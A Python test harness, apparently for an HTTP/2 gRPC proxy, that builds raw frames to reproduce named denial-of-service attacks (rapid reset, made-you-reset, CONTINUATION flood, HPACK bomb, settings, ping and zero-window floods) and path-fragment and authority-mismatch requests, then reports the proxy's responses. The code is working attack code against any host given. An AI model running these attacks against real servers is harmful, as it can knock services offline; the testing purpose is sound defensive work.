#!/usr/bin/python3
"""HTTP/2 attacks with CVEs behind them, from raw frames: what the proxy answers each with.

h2_attack.py HOST PORT ATTACK [HOLD]   prints one JSON object: goaway (its code, or null), resets (RST_STREAM
frames received), heads (HEADERS frames received), closed (the proxy closed the connection), reset (it ended with an
RST), sent (frames sent), junk (bytes of error-then-junk written), seconds.

rapid-reset     HEADERS then RST_STREAM, thousands of times (CVE-2023-44487)
made-you-reset  HEADERS, then more body than its content-length: the server must reset it itself
                (CVE-2025-8671), thousands of times
continuation    HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316)
hpack-bomb      one 4 KB header entry, then a block referring to it again and again (a few bytes
                each, megabytes decoded)
settings-flood  SETTINGS frames, the acks never read (CVE-2019-9515)
ping-flood      PING frames, the acks never read (CVE-2019-9512)
cancelled-uploads 30 uploads of 192 KiB held by a fault delay and cancelled, then one call
slow-reader     one call answered with 40 MiB, the window opened only for what arrived
fragment        a :path with a fragment ("#")
authority-mismatch  :authority and host that differ
stalled-request a call's head without END_STREAM, its body never sent (held HOLD seconds)
error-then-junk a connection error (DATA on stream 0), then 4 MiB more, more than the proxy reads before it
                ends the connection: its GOAWAY must arrive and the connection end with a FIN, not an RST (lingering close)
zero-window     16 server-streaming calls (5 MB each) with a window of 0, never opened (CVE-2019-9517 style):
                holds them open for a while and reports, the proxy's memory is the test's to measure
"""
import json
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload


def lit(n, v):
    """A literal field without indexing, new name (lengths below 127)."""
    n, v = n.encode(), v.encode()
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v


def request_block(path="/pillion.test.Echo/Unary", authority="svc"):
    return (lit(":method", "POST") + lit(":scheme", "http") + lit(":authority", authority) + lit(":path", path)
            + lit("content-type", "application/grpc") + lit("te", "trailers"))


class Conn:
    def __init__(self, host, port):
        self.s = socket.create_connection((host, port), timeout=30)
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.goaway = None
        self.resets = 0
        self.heads = 0
        self.data = 0
        self.statuses = []
        self.closed = False
        self.reset = False
        self.junk = 0
        self.sent = 0

    def send(self, data, frames=1):
        try:
            self.s.sendall(data)
            self.sent += frames
            return True
        except OSError:
            self.closed = True
            return False

    def read(self, wait):
        """Reads what comes within wait seconds (or until the proxy closes)."""
        end = time.monotonic() + wait
        while not self.closed:
            left = end - time.monotonic()
            if left <= 0:
                break
            self.s.settimeout(left)
            try:
                d = self.s.recv(65536)
            except socket.timeout:
                break
            except ConnectionResetError:
                self.closed = self.reset = True
                break
            except OSError:
                self.closed = True
                break
            if not d:
                self.closed = True
                break
            self.buf += d
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + n:
                    break
                t, payload = self.buf[3], self.buf[9:9 + n]
                self.buf = self.buf[9 + n:]
                if t == 7 and len(payload) >= 8:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
                elif t == 3:
                    self.resets += 1
                elif t == 0:
                    self.data += len(payload)
                elif t == 1:
                    self.heads += 1
                    # nghttp2 sends :status first, fully indexed when the static table has it
                    st = {0x88: 200, 0x89: 204, 0x8a: 206, 0x8b: 304, 0x8c: 400, 0x8d: 404, 0x8e: 500}
                    if payload and payload[0] in st:
                        self.statuses.append(st[payload[0]])

    def result(self, t0):
        return {"junk": self.junk, "goaway": self.goaway, "resets": self.resets, "heads": self.heads, "data": self.data,
                "statuses": self.statuses, "closed": self.closed, "reset": self.reset, "sent": self.sent,
                "seconds": round(time.monotonic() - t0, 2)}


def batches(c, n, stream):
    """n batches of 100 new streams, stream(id) giving each one's frames; each batch is one write,
    as the attacks' clients do. Stops at the proxy's GOAWAY or close."""
    sid = 1
    for _ in range(n):
        if not c.send(b"".join(stream(s) for s in range(sid, sid + 200, 2)), 200):
            return
        sid += 200
        c.read(0.01)
        if c.goaway is not None or c.closed:
            return


def main():
    host, port, attack = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    c = Conn(host, port)
    t0 = time.monotonic()
    c.send(PREFACE + frame(4, 0, 0), 1)
    if attack in ("cancelled-uploads", "fragment", "authority-mismatch", "slow-reader"):
        # A well-behaved start: the proxy's SETTINGS acknowledged (its stream window applies).
        c.read(0.5)
        c.send(frame(4, 1, 0))
    if attack == "cancelled-uploads":
        # 30 calls held by a fault delay, each sent 192 KiB of body and then cancelled: 5.6 MiB in
        # all, more than the connection's window unless each cancel hands its bytes back.
        chunk = b"u" * 16384
        for i in range(30):
            sid = 1 + 2 * i
            c.send(frame(1, 4, sid, request_block() + lit("x-delay", "yes")))
            c.send(b"".join(frame(0, 0, sid, chunk) for _ in range(12)), 12)
            c.send(frame(3, 0, sid, struct.pack(">I", 8)))
            c.read(0.05)
            if c.goaway is not None or c.closed:
                break
        sid = 1 + 2 * 30
        c.send(frame(1, 4, sid, request_block()) + frame(0, 1, sid, b"\0\0\0\0\4abcd"))
        c.read(5)
    elif attack == "slow-reader":
        # One call answered with 640 x 64 KiB (40 MiB), read in steps: the window opens 16 KiB at a
        # time, only for what arrived, so the server is always ahead of the reader.
        c.send(frame(1, 4, 1, request_block("/pillion.test.Echo/Big")) + frame(0, 1, 1, b"\0\0\0\0\x03640"))
        got, t_end = 0, time.monotonic() + 120
        while got < 640 * 65541 and not c.closed and time.monotonic() < t_end:
            before = c.data
            c.read(0.02)
            fresh = c.data - before
            if fresh:
                got += fresh
                c.send(frame(8, 0, 0, struct.pack(">I", fresh)) + frame(8, 0, 1, struct.pack(">I", fresh)))
        c.read(0.5)
    elif attack == "fragment":
        c.send(frame(1, 5, 1, lit(":method", "GET") + lit(":scheme", "http") + lit(":authority", "svc") +
                     lit(":path", "/pillion.test.Echo/Admin#/../Unary")))
        c.read(5)
    elif attack == "authority-mismatch":
        c.send(frame(1, 5, 1, lit(":method", "GET") + lit(":scheme", "http") + lit(":authority", "svc") +
                     lit(":path", "/plain/x") + lit("host", "other")))
        c.read(5)
    elif attack == "rapid-reset":
        block = request_block()
        batches(c, 100, lambda s: frame(1, 4, s, block) + frame(3, 0, s, struct.pack(">I", 8)))
        c.read(5)
    elif attack == "made-you-reset":
        # The server is made to reset each stream itself, after the request went upstream: a body
        # longer than its content-length is a stream error (RFC 9113 8.1.1), so the client never
        # sends RST_STREAM (CVE-2025-8671).
        block = request_block() + lit("content-length", "1")
        batches(c, 50, lambda s: frame(1, 4, s, block) + frame(0, 1, s, b"xx"))
        c.read(3)
    elif attack == "continuation":
        block = request_block()
        c.send(frame(1, 0, 1, block[:10]))
        for i in range(10000):
            if not c.send(frame(9, 0, 1, lit("x-pad-%d" % i, "y" * 50))):
                break
            if i % 100 == 0:
                c.read(0.01)
                if c.goaway is not None or c.closed:
                    break
        c.read(5)
    elif attack == "hpack-bomb":
        # Literal with incremental indexing (0x40), 4,000 bytes: the dynamic table's one entry (62).
        big = b"\x40" + bytes([7]) + b"x-bombb" + b"\x7f" + bytes([4000 - 127 & 0x7f | 0x80, (4000 - 127) >> 7]) + b"z" * 4000
        block = request_block() + big + b"\xbe" * 3000   # 0x80 | 62, 3,000 times: 12 MB decoded
        c.send(frame(1, 5, 1, block[:16000]) if len(block) <= 16000 else frame(1, 1, 1, block[:16000]) +
               frame(9, 4, 1, block[16000:]))
        c.read(5)
        # The connection still serves a well-formed request after the stream was refused.
        c.send(frame(1, 4, 3, request_block()) + frame(0, 1, 3, b"\0\0\0\0\1x"))
        c.read(5)
    elif attack in ("settings-flood", "ping-flood"):
        f = frame(4, 0, 0, struct.pack(">HI", 4, 65535)) if attack == "settings-flood" else frame(6, 0, 0, b"12345678")
        # The acks are never read: the socket's buffers fill, and the proxy must stop queueing.
        c.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        c.s.settimeout(5)
        for _ in range(200):
            if not c.send(f * 1000, 1000):
                break
        c.read(5)
    elif attack == "stalled-request":
        # A call whose head came and whose body never does: the server waits, and so would the proxy.
        c.send(frame(1, 4, 1, request_block()))
        c.read(float(sys.argv[4]) if len(sys.argv) > 4 else 3)
    elif attack == "error-then-junk":
        c.read(0.5)

        sender = c.s.dup()          # a timeout of its own: the reader changes the other's
        sender.settimeout(30)
        sent = [0]

        def junk():
            # The error and, in the same write, more than the proxy reads in a turn: bytes still
            # unread when it ends the connection.
            data = frame(4, 1, 0) + frame(0, 0, 0, b"x") + b"\0" * (4 << 20)
            try:
                while sent[0] < len(data):
                    sent[0] += sender.send(data[sent[0]:])
            except OSError:
                pass
        t = threading.Thread(target=junk, daemon=True)
        t.start()
        c.read(10)
        t.join(30)
        sender.close()
        c.junk = sent[0]
    elif attack == "zero-window":
        # SETTINGS_INITIAL_WINDOW_SIZE 0: no DATA may come until a WINDOW_UPDATE, which never does.
        c.send(frame(4, 0, 0, struct.pack(">HI", 4, 0)))
        body = b"\0\0\0\0\x0280"
        for i in range(16):
            sid = 1 + 2 * i
            c.send(frame(1, 4, sid, request_block("/pillion.test.Echo/Big")) + frame(0, 1, sid, body))
        c.read(float(sys.argv[4]) if len(sys.argv) > 4 else 3)
    else:
        sys.exit("unknown attack " + attack)
    print(json.dumps(c.result(t0), sort_keys=True))


if __name__ == "__main__":
    main()
